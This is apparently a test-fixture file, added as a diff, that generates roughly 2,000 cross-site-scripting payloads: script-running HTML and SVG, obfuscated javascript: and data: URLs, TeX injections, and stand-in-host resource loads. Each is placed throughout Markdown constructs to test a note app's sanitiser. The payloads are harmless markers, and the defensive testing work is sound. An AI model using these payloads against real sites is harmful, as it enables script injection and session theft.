@@ -1,0 +1,186 @@
+/*
+ * Texts that try to run something when a note is shown. Each sets `window.__xss` or asks a foreign host for something,
+ * should it ever get through. Built from families: what a thing might run, and every place a note has to put it.
+ */
+export type Payload = { readonly name: string; readonly text: string };
+
+/** What a foreign request would go to. Reserved: nobody answers there. */
+export const foreignHost = "xss.invalid";
+
+const run = "window.__xss=1";
+
+/** Markup that runs by itself, or when touched. */
+const markup: readonly string[] = [
+  `<script>${run}</script>`,
+  `<ScRiPt >${run}</sCrIpT>`,
+  `<script src=//${foreignHost}/a.js></script>`,
+  `<img src=x onerror=${run}>`,
+  `<img/src=x/onerror=${run}>`,
+  `<img src="x" onerror="${run}">`,
+  `<img src=\`x\` onerror=\`${run}\`>`,
+  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
+  `<svg onload=${run}>`,
+  `<svg/onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+  `<math href="javascript:${run}">x</math>`,
+  `<body onload=${run}>`,
+  `<iframe src="javascript:${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<form action="javascript:${run}"><button>x</button></form>`,
+  `<button formaction="javascript:${run}">x</button>`,
+  `<input autofocus onfocus=${run}>`,
+  `<details open ontoggle=${run}>`,
+  `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}>`,
+  `<marquee onstart=${run}>`,
+  `<link rel=stylesheet href=//${foreignHost}/a.css>`,
+  `<style>@import "//${foreignHost}/a.css";</style>`,
+  `<style>*{background:url(//${foreignHost}/a.png)}</style>`,
+  `<div style="background:url(//${foreignHost}/a.png)">x</div>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  `<base href="//${foreignHost}/">`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<xss id=x tabindex=1 onfocus=${run}></xss>`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `<![CDATA[<img src=x onerror=${run}>]]>`,
+  `<?xml-stylesheet href="javascript:${run}"?>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</style><script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `"><script>${run}</script>`,
+  `'><img src=x onerror=${run}>`,
+  `" onmouseover="${run}" x="`,
+  `' autofocus onfocus='${run}' x='`,
+  `<a href="javascript:${run}">x</a>`,
+  `<img src="//${foreignHost}/a.png">`,
+  `<img srcset="//${foreignHost}/a.png 1x">`,
+];
+
+/** Addresses that run something, or that only look like ours. */
+const addresses: readonly string[] = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `javascript&colon;${run}`,
+  `javascript&#58;${run}`,
+  `javascript&#x3a;${run}`,
+  `&#106;avascript:${run}`,
+  `&#x6A;&#x61;&#x76;&#x61;script:${run}`,
+  `java&#9;script:${run}`,
+  `java&#10;script:${run}`,
+  `java&Tab;script:${run}`,
+  `&#1;javascript:${run}`,
+  `\u0001javascript:${run}`,
+  `\u200bjavascript:${run}`,
+  `\u00a0javascript:${run}`,
+  `\ufeffjavascript:${run}`,
+  `javascript\\:${run}`,
+  `\\javascript:${run}`,
+  `javascript://%0a${run}`,
+  `javascript://example.org/%0d%0a${run}`,
+  `vbscript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg onload=${run}>`,
+  `blob:https://${foreignHost}/1`,
+  `file:///etc/passwd`,
+  `feed:javascript:${run}`,
+  `view-source:javascript:${run}`,
+  `//${foreignHost}/a.png`,
+  `/\\${foreignHost}/a.png`,
+  `/&#9;/${foreignHost}/a.png`,
+  `\\\\${foreignHost}\\a.png`,
+  `http:/\\${foreignHost}`,
+  `/api/auth/sign-out`,
+  `attachment:../../etc/passwd`,
+  `attachment:x" onerror="${run}`,
+];
+
+const tex: readonly string[] = [
+  `\\href{javascript:${run}}{x}`,
+  `\\url{javascript:${run}}`,
+  `\\htmlClass{x" onmouseover="${run}}{y}`,
+  `\\htmlId{x}{y}`,
+  `\\htmlStyle{background:url(//${foreignHost}/a.png)}{y}`,
+  `\\htmlData{x=y}{z}`,
+  `\\includegraphics{//${foreignHost}/a.png}`,
+  `\\text{<img src=x onerror=${run}>}`,
+  `\\textcolor{red" onmouseover="${run}}{x}`,
+  `\\color{url(//${foreignHost}/a.png)}x`,
+  `\\unicode{<script>${run}</script>}`,
+  `</annotation><img src=x onerror=${run}>`,
+  `</math><script>${run}</script>`,
+  `\\require{html}\\href{javascript:${run}}{x}`,
+  `\\def\\x{<svg onload=${run}>}\\x`,
+  `\\char"3Cscript\\char"3E`,
+];
+
+/** Where markup can stand in a note. */
+const places: readonly { readonly name: string; readonly put: (markup: string) => string }[] = [
+  { name: "on its own", put: (it) => it },
+  { name: "in a sentence", put: (it) => `so ${it} it is` },
+  { name: "in a heading", put: (it) => `# ${it}` },
+  { name: "in strong text", put: (it) => `**${it}**` },
+  { name: "in a highlight", put: (it) => `==${it}==` },
+  { name: "in a quotation", put: (it) => `> ${it}` },
+  { name: "in a callout's title", put: (it) => `> [!tip] ${it}\n> body` },
+  { name: "in a callout's kind", put: (it) => `> [!${it}] x\n> body` },
+  { name: "in a list", put: (it) => `- ${it}` },
+  { name: "in a task", put: (it) => `- [ ] ${it}` },
+  { name: "in a table's head", put: (it) => `| ${it.replaceAll("|", "")} | b |\n|---|---|\n| c | d |` },
+  { name: "in a table's cell", put: (it) => `| a | b |\n|---|---|\n| ${it} | d |` },
+  { name: "in code", put: (it) => `\`${it}\`` },
+  { name: "in a block of code", put: (it) => `\`\`\`\n${it}\n\`\`\`` },
+  { name: "as a block's language", put: (it) => `\`\`\`${it.replaceAll("`", "")}\nx\n\`\`\`` },
+  { name: "as code in HTML", put: (it) => `\`\`\`html\n${it}\n\`\`\`` },
+  { name: "as a link's words", put: (it) => `[${it}](https://example.org)` },
+  { name: "as a link's title", put: (it) => `[x](https://example.org "${it.replaceAll('"', "'")}")` },
+  { name: "as a link's title, escaped", put: (it) => `[x](https://example.org '${it.replaceAll("'", "\\'")}')` },
+  { name: "as a reference's title", put: (it) => `[x][r]\n\n[r]: https://example.org '${it.replaceAll("'", "")}'` },
+  { name: "as a picture's words", put: (it) => `![${it}](attachment:abc)` },
+  { name: "as a foreign picture's words", put: (it) => `![${it}](https://${foreignHost}/a.png)` },
+  { name: "in a footnote", put: (it) => `x[^1]\n\n[^1]: ${it}` },
+  { name: "as a footnote's name", put: (it) => `x[^${it}]\n\n[^${it}]: y` },
+  { name: "as a link between notes", put: (it) => `[[${it}]]` },
+  { name: "as the words of a link between notes", put: (it) => `[[x|${it}]]` },
+  { name: "as a tag", put: (it) => `#x${it}` },
+  { name: "in front matter", put: (it) => `---\ntitle: ${it}\ntags: [${it}]\n---\nx` },
+  { name: "in front matter that has no end", put: (it) => `---\ntitle: ${it}\nx` },
+  { name: "in entities", put: (it) => it.replace(/[<>"'=]/g, (sign) => `&#${sign.charCodeAt(0)};`) },
+  { name: "in escapes", put: (it) => it.replace(/[<>"'=]/g, (sign) => `\\${sign}`) },
+  { name: "with full-width brackets", put: (it) => it.replaceAll("<", "＜").replaceAll(">", "＞") },
+  { name: "with a NUL inside", put: (it) => it.replace("<", "<\0") },
+  { name: "behind a right-to-left mark", put: (it) => `\u202e${it}` },
+  { name: "over lines with returns", put: (it) => it.replaceAll(" ", "\r\n") },
+  { name: "in a formula", put: (it) => `$x ${it} y$` },
+  { name: "in a display formula", put: (it) => `$$\n${it}\n$$` },
+];
+
+/** Where an address can stand. */
+const addressPlaces: readonly { readonly name: string; readonly put: (address: string) => string }[] = [
+  { name: "a link", put: (it) => `[x](${it})` },
+  { name: "a link in angles", put: (it) => `[x](<${it.replaceAll(/[<>]/g, "")}>)` },
+  { name: "a reference", put: (it) => `[x]\n\n[x]: ${it}` },
+  { name: "a picture", put: (it) => `![x](${it})` },
+  { name: "an autolink", put: (it) => `<${it}>` },
+  { name: "a link between notes", put: (it) => `[[${it}|x]]` },
+];
+
+/** Everything: some 2,000 texts. */
+export const xssCorpus: readonly Payload[] = [
+  ...places.flatMap(({ name, put }) => markup.map((it) => ({ name: `${it} ${name}`, text: put(it) }))),
+  ...addressPlaces.flatMap(({ name, put }) => addresses.map((it) => ({ name: `${it} in ${name}`, text: put(it) }))),
+  ...tex.flatMap((it) => [
+    { name: `${it} in a line`, text: `so $${it}$ it is` },
+    { name: `${it} as a block`, text: `$$\n${it}\n$$` },
+  ]),
+];
+
+/** For fields that are no Markdown: a title, a tag, a name. */
+export const xssWords: readonly string[] = [...markup, ...addresses];
